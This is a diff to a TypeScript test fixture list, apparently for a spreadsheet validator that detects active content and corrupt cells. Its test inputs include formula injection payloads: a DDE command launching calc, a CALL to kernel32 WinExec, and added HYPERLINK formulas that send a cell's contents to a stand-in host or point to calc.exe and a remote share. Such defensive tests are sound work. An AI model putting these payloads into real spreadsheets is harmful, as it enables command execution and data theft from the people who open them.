@@ -425,6 +425,10 @@ export const attacks: readonly Attack[] = [
       ['asks a program', "<c><f>cmd|'/c calc'!A1</f></c>"],
       ['asks a server', '<c><f>RTD("x",,"y")</f></c>'],
       ['calls a library', '<c><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></c>'],
+      ['sends a cell with a link', '<c><f>HYPERLINK("https://x/?"&amp;A1,"Total")</f></c>'],
+      ['links to what a cell says', '<c><f>hyperlink (A1)</f></c>'],
+      ['links to a program', '<c><f>HYPERLINK("file:///c:/calc.exe","Total")</f></c>'],
+      ['links to a folder elsewhere', '<c><f>HYPERLINK("\\\\x\\y","Total")</f></c>'],
       ['reads a workbook elsewhere', "<c><f>'https://x/[a.xlsx]S'!A1</f></c>"],
     ] as const
   ).map(
@@ -432,6 +436,13 @@ export const attacks: readonly Attack[] = [
       `a workbook with a formula that ${about}`,
       'activeContent',
       () => withSheet(xml),
+    ],
+  ),
+  ...['ZZZZZ4000000000', 'XFE1', 'A2000000', 'A00010000000'].map(
+    (address): Attack => [
+      `a workbook with a cell ${address}`,
+      'corrupt',
+      () => withSheet(`<sheetData><row r="1"><c r="${address}"><v>1</v></c></row></sheetData>`),
     ],
   ),
   [
